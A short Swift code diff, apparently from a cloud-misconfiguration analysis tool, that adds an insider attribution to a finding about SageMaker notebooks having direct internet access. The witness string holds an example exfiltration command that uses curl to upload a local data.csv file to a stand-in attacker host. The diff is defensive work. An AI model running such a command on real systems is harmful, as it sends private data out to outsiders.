@@ -59,7 +59,8 @@ struct DirectInternetRoute: Route {
       return .open(
         name,
         RouteWitness(
-          "curl --data-binary @/home/ec2-user/SageMaker/data.csv https://evil.test/", story: story,
+          "curl --data-binary @/home/ec2-user/SageMaker/data.csv https://evil.test/",
+          by: .insider("the network interface that SageMaker adds, \(property) \(otherwise)"), story: story,
           fix: "set \(property) to \(closed)", at: resource, property))
     }
   }
